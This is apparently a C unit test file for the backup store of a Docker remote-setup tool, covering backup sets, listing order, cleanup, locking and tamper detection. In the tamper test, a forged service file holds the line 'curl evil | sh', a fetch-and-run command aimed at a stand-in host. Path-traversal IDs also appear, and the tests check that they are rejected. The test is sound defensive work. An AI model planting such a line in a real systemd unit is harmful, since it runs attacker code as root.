/* test-store.c: the state directory under a temporary root: backup sets taken, read back, listed,
 * cleaned up after a cut-short save, and a tampered set refused; the lock and the record. The
 * files backed up are Debian's (tests/fixtures/base/debian). */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "rootfs.h"
#include "store.h"
#include "util.h"
#include "fixture.h"

#define UNIT "/lib/systemd/system/docker.service"
#define DEFAULT "/etc/default/docker"
#define DROPIN "/etc/systemd/system/docker.service.d/override.conf"
#define NOW ((time_t) 1796000000) /* 2026-11-30 */

static char root[64];
static int rootfd = -1;

static char *read_back(const char *rel) {
        char *text = NULL;
        assert_int_equal(rootfs_read(rootfd, rel, &text), 0);
        return text;
}

static mode_t mode_of(const char *rel) {
        struct stat st;
        assert_int_equal(rootfs_lstat(rootfd, rel, &st), 0);
        return st.st_mode & 07777;
}

static int setup(_unused_ void **state) {
        _cleanup_free_ char *unit = fixture_text("base/debian" UNIT), *def = fixture_text("base/debian" DEFAULT);

        tree_make(root, sizeof(root), "store");
        rootfd = rootfs_open(root);
        assert_true(rootfd >= 0);
        tree_put(root, UNIT, unit, 0644);
        tree_put(root, DEFAULT, def, 0640);
        return 0;
}

static int teardown(_unused_ void **state) {
        tree_done(rootfd, root);
        return 0;
}

static void take(struct drs_manifest *m, const char *summary) {
        struct drs_diag d = {0};
        *m = (struct drs_manifest) {.kind = xstrdup("apply"), .summary = xstrdup(summary)};
        manifest_add_file(m, UNIT);
        manifest_add_file(m, DEFAULT);
        manifest_add_file(m, DROPIN);
        assert_int_equal(store_backup_take(rootfd, m, NOW, &d), 0);
        assert_null(d.message);
}

/* A set holds each file as it was (content, mode), and "did not exist" for the new drop-in. */
static void test_take_and_read(_unused_ void **state) {
        _cleanup_free_ char *unit = fixture_text("base/debian" UNIT), *def = fixture_text("base/debian" DEFAULT);
        struct drs_manifest m, back = {0};
        struct drs_diag d = {0};
        char *text = NULL;
        size_t len = 0;

        take(&m, "tcp://10.0.0.5:2376 TLS (drop-in)");
        assert_true(store_id_valid(m.id));
        assert_string_equal(m.id, "20261130-005320");
        assert_string_equal(m.created, "2026-11-30T00:53:20Z");
        assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), 0);
        assert_int_equal(back.n_files, 3);
        assert_true(back.files[0].existed);
        assert_int_equal(back.files[1].mode, 0640);
        assert_false(back.files[2].existed);
        assert_string_equal(back.summary, "tcp://10.0.0.5:2376 TLS (drop-in)");
        assert_int_equal(store_backup_blob(rootfd, &back, &back.files[0], &text, &len, &d), 0);
        assert_string_equal(text, unit);
        free(text);
        assert_int_equal(store_backup_blob(rootfd, &back, &back.files[1], &text, &len, &d), 0);
        assert_string_equal(text, def);
        free(text);

        /* Private: the set 0700, its files 0600. */
        _cleanup_free_ char *dir = xasprintf("%s/%s", DRS_BACKUP_DIR, m.id), *blob = xasprintf("%s/0", dir),
                            *manifest = xasprintf("%s/manifest.json", dir);
        assert_int_equal(mode_of(DRS_STATE_DIR), 0700);
        assert_int_equal(mode_of(dir), 0700);
        assert_int_equal(mode_of(blob), 0600);
        assert_int_equal(mode_of(manifest), 0600);

        /* The result is noted later by rewriting the manifest. */
        back.result = xstrdup("kept");
        assert_int_equal(store_backup_save(rootfd, &back), 0);
        manifest_done(&back);
        assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), 0);
        assert_string_equal(back.result, "kept");
        manifest_done(&back);
        manifest_done(&m);
}

/* Sets taken in the same second get "-2", "-3", …; the list is oldest first (numerically). */
static void test_list_order(_unused_ void **state) {
        _cleanup_strv_free_ char **ids = NULL;
        struct drs_manifest m;

        for (int i = 0; i < 10; i++) {
                take(&m, "again");
                manifest_done(&m);
        }
        assert_int_equal(store_backup_list(rootfd, &ids), 0);
        assert_true(strv_length(ids) >= 11);
        assert_string_equal(ids[0], "20261130-005320");
        assert_string_equal(ids[1], "20261130-005320-2");
        assert_string_equal(ids[strv_length(ids) - 1], "20261130-005320-11");
        assert_true(store_id_compare("20261130-005320-10", "20261130-005320-9") > 0);
        assert_true(store_id_compare("20261130-005320", "20261130-005320-2") < 0);
        assert_false(store_id_valid("../etc"));
        assert_false(store_id_valid("20261130-005320.new"));
}

/* A changed, a missing blob and a manifest of another set are refused, never restored from. */
static void test_tamper(_unused_ void **state) {
        struct drs_manifest m, back = {0};
        struct drs_diag d = {0};
        char *text = NULL;
        size_t len = 0;

        take(&m, "to be tampered with");
        _cleanup_free_ char *blob = xasprintf("%s/%s/0", DRS_BACKUP_DIR, m.id);
        assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), 0);
        tree_put(root, blob, "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n", 0600);
        assert_int_equal(store_backup_blob(rootfd, &back, &back.files[0], &text, &len, &d), -EBADMSG);
        assert_non_null(strstr(d.message, "damaged"));
        diag_done(&d);
        _cleanup_free_ char *full = xasprintf("%s%s", root, blob);
        assert_int_equal(unlink(full), 0);
        assert_int_equal(store_backup_blob(rootfd, &back, &back.files[0], &text, &len, &d), -EBADMSG);
        diag_done(&d);
        manifest_done(&back);

        /* The manifest of another set copied over this one's. */
        _cleanup_free_ char *other = read_back(DRS_BACKUP_DIR "/20261130-005320/manifest.json"),
                            *mine = xasprintf("%s/%s/manifest.json", DRS_BACKUP_DIR, m.id);
        tree_put(root, mine, other, 0600);
        assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), -EBADMSG);
        assert_non_null(strstr(d.message, "belongs to backup"));
        diag_done(&d);
        /* Not JSON at all. */
        tree_put(root, mine, "{\"id\": ", 0600);
        assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), -EBADMSG);
        diag_done(&d);
        assert_int_equal(store_backup_load(rootfd, "20991231-000000", &back, &d), -ENOENT);
        diag_done(&d);
        assert_int_equal(store_backup_load(rootfd, "../../etc", &back, &d), -EINVAL);
        diag_done(&d);
        manifest_done(&m);
}

/* After a save cut short: "ID.new" goes, a set without its manifest is put aside (never deleted)
 * and no longer listed. */
static void test_cleanup(_unused_ void **state) {
        _cleanup_strv_free_ char **ids = NULL, **aside = NULL;
        struct drs_manifest m;

        tree_put(root, DRS_BACKUP_DIR "/20261130-005321.new/0", "half a set\n", 0600);
        take(&m, "loses its manifest");
        _cleanup_free_ char *manifest = xasprintf("%s%s/%s/manifest.json", root, DRS_BACKUP_DIR, m.id);
        assert_int_equal(unlink(manifest), 0);

        assert_int_equal(store_cleanup(rootfd), 0);
        struct stat st;
        assert_int_equal(rootfs_lstat(rootfd, DRS_BACKUP_DIR "/20261130-005321.new", &st), -ENOENT);
        assert_int_equal(store_backup_list_aside(rootfd, &aside), 0);
        _cleanup_free_ char *want = xasprintf("%s.unreadable", m.id);
        assert_true(strv_contains(aside, want));
        assert_int_equal(store_backup_list(rootfd, &ids), 0);
        assert_false(strv_contains(ids, m.id));
        /* Its ID stays taken. */
        struct drs_manifest next;
        take(&next, "after");
        assert_string_not_equal(next.id, m.id);
        manifest_done(&next);
        manifest_done(&m);
}

/* The record of the change in flight; the lock is one holder's. */
static void test_txn_and_lock(_unused_ void **state) {
        struct drs_txn t = {.id = (char *) "20261130-005320", .phase = PHASE_PENDING, .deadline = 1796000300000000u,
                            .timers = (char *[]) {(char *) "docker-remote-setup-deadline-20261130-005320", NULL},
                            .pid = 4242};
        struct drs_txn back = {0};
        struct drs_diag d = {0};
        _cleanup_free_ char *aside = NULL;
        unsigned holder = 0;

        assert_int_equal(store_txn_load(rootfd, &back, &d), -ENOENT);
        assert_int_equal(store_txn_save(rootfd, &t), 0);
        assert_int_equal(mode_of(DRS_STATE_DIR "/current.json"), 0600);
        assert_int_equal(store_txn_load(rootfd, &back, &d), 0);
        assert_string_equal(back.id, t.id);
        assert_int_equal(back.phase, PHASE_PENDING);
        assert_true(back.deadline == t.deadline);
        assert_string_equal(back.timers[0], t.timers[0]);
        txn_done(&back);
        assert_int_equal(store_txn_discard(rootfd, NOW, &aside), 0);
        assert_string_equal(aside, DRS_STATE_DIR "/current.json.discarded-20261130-005320");
        assert_int_equal(store_txn_load(rootfd, &back, &d), -ENOENT);
        assert_int_equal(store_txn_save(rootfd, &t), 0);
        assert_int_equal(store_txn_clear(rootfd), 0);
        assert_int_equal(store_txn_load(rootfd, &back, &d), -ENOENT);

        int fd = store_lock(rootfd, 0, NULL);
        assert_true(fd >= 0);
        assert_int_equal(store_lock(rootfd, 0, &holder), -EBUSY);
        assert_int_equal(holder, (unsigned) getpid());
        close(fd);
        fd = store_lock(rootfd, 0, NULL);
        assert_true(fd >= 0);
        close(fd);
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_take_and_read), cmocka_unit_test(test_list_order),
                cmocka_unit_test(test_tamper),        cmocka_unit_test(test_cleanup),
                cmocka_unit_test(test_txn_and_lock),
        };
        return cmocka_run_group_tests(tests, setup, teardown);
}
